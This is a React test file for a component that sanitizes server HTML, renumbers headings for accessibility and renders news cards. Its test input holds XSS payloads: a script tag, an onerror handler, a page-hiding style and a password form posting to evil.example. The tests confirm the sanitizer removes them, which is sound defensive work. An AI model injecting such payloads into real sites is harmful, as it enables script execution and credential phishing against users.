import { render, screen } from '@testing-library/react';
import { renderScreen } from '@/testing/render';
import { NewsCard } from './news-card';
import { ServerHtml } from './server-html';

const HOSTILE =
  '<p>Assemblée <strong>générale</strong></p>' +
  '<script>window.pwned = true</script>' +
  '<img src="x" onerror="window.pwned = true">' +
  '<style>body { display: none }</style>' +
  '<form action="https://evil.example/"><input name="password"><button>Envoyer</button></form>' +
  '<p style="color: red">Rouge</p>' +
  '<a href="https://exemple.org">Site externe</a> <a href="#/documents">Documents</a>';

describe('ServerHtml (the one door of server HTML)', () => {
  it('shows the sanitized HTML in a .server-html element', () => {
    const { container } = render(<ServerHtml html={HOSTILE} className="lead" id="texte" />);
    const holder = container.querySelector('.server-html');
    expect(holder).not.toBeNull();
    expect(holder?.tagName).toBe('DIV');
    expect(holder).toHaveClass('lead');
    expect(holder).toHaveAttribute('id', 'texte');

    expect(screen.getByText('générale').tagName).toBe('STRONG');
    expect(holder).toHaveTextContent('Assemblée générale');
    expect(screen.getByText('Rouge')).not.toHaveAttribute('style');
    for (const tag of ['script', 'style', 'form', 'input', 'button', '[onerror]', '[style]']) {
      expect(container.querySelector(tag)).toBeNull();
    }
    expect(screen.queryByRole('button')).not.toBeInTheDocument();
    expect(screen.queryByRole('textbox')).not.toBeInTheDocument();
    expect((window as Window & { pwned?: boolean }).pwned).toBeUndefined();

    const external = screen.getByRole('link', { name: 'Site externe' });
    expect(external).toHaveAttribute('target', '_blank');
    expect(external).toHaveAttribute('rel', 'noopener noreferrer');
    expect(screen.getByRole('link', { name: 'Documents' })).not.toHaveAttribute('target');
  });

  it('renders as the element given by `as`', () => {
    const { container } = render(<ServerHtml html="<li>Un</li><li>Deux</li>" as="ul" />);
    const list = container.querySelector('ul.server-html');
    expect(list).not.toBeNull();
    expect(screen.getAllByRole('listitem').map((item) => item.textContent)).toEqual(['Un', 'Deux']);
  });

  it('renders an empty element for no HTML', () => {
    const { container } = render(<ServerHtml html={null} as="section" />);
    const holder = container.querySelector('section.server-html');
    expect(holder).not.toBeNull();
    expect(holder).toBeEmptyDOMElement();
  });

  it("sets the text's headings under the heading that introduces it (RGAA 9.1)", () => {
    const html =
      '<h1>Grand titre</h1><h2 id="x">Titre</h2><h3>Sous-titre</h3><h5>Petit</h5>' +
      '<h3><em>Mis</em> en forme</h3><script>window.pwned = true</script>';
    const { container } = render(<ServerHtml html={html} topHeading={4} />);
    const headings = Array.from(container.querySelectorAll('h1, h2, h3, h4, h5, h6'));
    expect(headings.map((heading) => `${heading.tagName} ${heading.textContent}`)).toEqual([
      'H4 Grand titre',
      'H4 Titre',
      'H5 Sous-titre',
      'H6 Petit',
      'H5 Mis en forme',
    ]);
    expect(screen.getByRole('heading', { name: 'Titre' })).toHaveAttribute('id', 'user-content-x');
    expect(screen.getByText('Mis').tagName).toBe('EM');
    expect(container.querySelector('script')).toBeNull();
    expect((window as Window & { pwned?: boolean }).pwned).toBeUndefined();
  });

  it('leaves the headings as they are by default', () => {
    const { container } = render(<ServerHtml html="<h2>Titre</h2><h3>Sous-titre</h3>" />);
    expect(Array.from(container.querySelectorAll('h2, h3'), (heading) => heading.tagName)).toEqual([
      'H2',
      'H3',
    ]);
  });

  it("puts a news item's own headings under its title", () => {
    renderScreen(
      <NewsCard item={{ id: 1, title: 'Assemblée générale', text: '<h2>Ordre du jour</h2>' }} />,
    );
    expect(screen.getByRole('heading', { level: 3, name: 'Assemblée générale' })).toBeVisible();
    expect(screen.getByRole('heading', { level: 4, name: 'Ordre du jour' })).toBeVisible();
  });
});
